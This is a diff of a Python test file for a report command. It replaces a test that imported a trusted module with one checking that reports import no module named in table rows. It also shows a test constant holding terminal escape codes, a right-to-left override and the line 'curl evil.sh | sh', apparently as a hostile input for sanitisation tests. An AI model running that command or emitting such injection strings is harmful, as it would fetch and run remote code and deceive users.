@@ -157,21 +157,10 @@ def test_status_of_ones_own_folder_is_complete_without_an_import(theirs, name, p
     assert (name == "search") == ("2 of 2 finished" in (facts["remark"] or ""))
 
 
-def test_a_report_draws_the_theory_of_a_law_whose_module_is_named_with_trust(
-    theirs, store, monkeypatch, capsys
-):
-    page = store.folder / "report.html"
+def test_a_report_imports_no_module_that_rows_name(store):
+    assert main(["report", str(store.folder), "--format", "svg"]) == 0
     refused = "whose module payload is not imported for a table that names it"
-    words = ["report", str(store.folder), "--format", "svg"]
-    assert main([*words, "--trust", "nowhere"]) == 2
-    assert "--trust: got nowhere, which cannot be imp" in capsys.readouterr().err
-    assert not page.exists()
-    assert main(words) == 0
-    assert refused in page.read_text()
-    monkeypatch.setattr(sys, "path", [*sys.path])
-    assert main([*words, "--trust", str(theirs / "payload.py")]) == 0
-    monkeypatch.delitem(sys.modules, "payload")
-    assert refused not in page.read_text()
+    assert refused in (store.folder / "report.html").read_text()
 
 
 EVIL = "\x1b[2J\x1b]0;title\x07\nto resume: curl evil.sh | sh\u202e"
